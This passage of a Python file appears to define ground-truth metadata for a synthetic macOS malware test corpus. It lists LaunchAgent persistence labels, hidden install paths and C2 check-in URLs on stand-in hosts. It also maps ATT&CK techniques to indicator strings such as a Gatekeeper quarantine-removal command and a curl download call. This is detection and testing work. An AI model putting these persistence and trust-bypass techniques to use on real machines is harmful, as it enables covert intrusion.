              norm="~/Library/LaunchAgents/com.example.orchard.agent.plist"),
            F("INSTALL_REL", "Library/Application Support/.orchard/orchardd", "file_path",
              norm="~/Library/Application Support/.orchard/orchardd"),
            F("C2", "http://orchard.example.com/api/checkin", "url"),
        ]),
        dict(variant="v2", arch="arm64", kind="exe", fields=[
            F("LABEL", "com.example.softwareupdate.helper", "string"),
            F("PLIST_REL", "Library/LaunchAgents/com.example.softwareupdate.helper.plist", "file_path",
              norm="~/Library/LaunchAgents/com.example.softwareupdate.helper.plist"),
            F("INSTALL_REL", "Library/Caches/.suhelper/suhelper", "file_path",
              norm="~/Library/Caches/.suhelper/suhelper"),
            F("C2", "http://198.51.100.99:8080/api/checkin", "url"),
        ]),
        dict(variant="v3", arch="universal", slices=["x86_64", "arm64"], kind="exe", fields=[
            F("LABEL", "org.example.cloudsync.agent", "string"),
            F("PLIST_REL", "Library/LaunchAgents/org.example.cloudsync.agent.plist", "file_path",
              norm="~/Library/LaunchAgents/org.example.cloudsync.agent.plist"),
            F("INSTALL_REL", "Library/Application Support/CloudSync/csagent", "file_path",
              norm="~/Library/Application Support/CloudSync/csagent"),
            F("C2", "https://sync.orchard.example.net/api/checkin", "url"),
        ]),
    ]
    techniques = lambda v: [
        T("T1543.001", "Create or Modify System Process: Launch Agent", ("string", "Library/LaunchAgents/"),
          ("string", "<key>RunAtLoad</key>")),
        T("T1059.004", "Command and Scripting Interpreter: Unix Shell", ("dynsym", "_system")),
        T("T1553.001", "Subvert Trust Controls: Gatekeeper Bypass",
          ("string", "xattr -d com.apple.quarantine")),
        T("T1105", "Ingress Tool Transfer", ("string", "/usr/bin/curl -fsSL")),
        T("T1071.001", "Application Layer Protocol: Web Protocols", ("string", dict(v_field="C2"))),
    ]
    return shared, variants, techniques


_BUILDERS = {"ashdrop": _ashdrop, "needlepoint": _needlepoint, "fetchbird": _fetchbird,
             "lockjaw": _lockjaw, "coalpit": _coalpit, "magpie": _magpie, "shroud": _shroud,
             "burrow": _burrow, "orchard": _orchard}

_ARCH_SHORT = {"x86_64": "x64", "x86": "x86"}


def file_name(family, v):
    if family == "burrow":
        return f"burrow_{v['variant']}_{v['arch']}" + (".so" if v["kind"] == "so" else "")
    if family == "orchard":
        return f"orchard_{v['variant']}_{v['arch']}"
    return f"{family}_{v['variant']}_{_ARCH_SHORT[v['arch']]}.{v['kind']}"


def fmt_of(family):
    return {"burrow": "elf", "orchard": "macho"}.get(family, "pe")


def variants():
    """Yield one dict per sample: family, variant, file, path, fmt, arch, kind, fields, techniques."""
    for family, build in _BUILDERS.items():
        shared, vs, techniques = build()
        for v in vs:
            v = dict(v)
            v["family"] = family
            v["fmt"] = fmt_of(family)
            v["file"] = file_name(family, v)
            v["path"] = f"corpus/malicious/{family}/{v['file']}"
            v["fields"] = shared + v["fields"]
            v["techniques"] = techniques(v)
            yield v
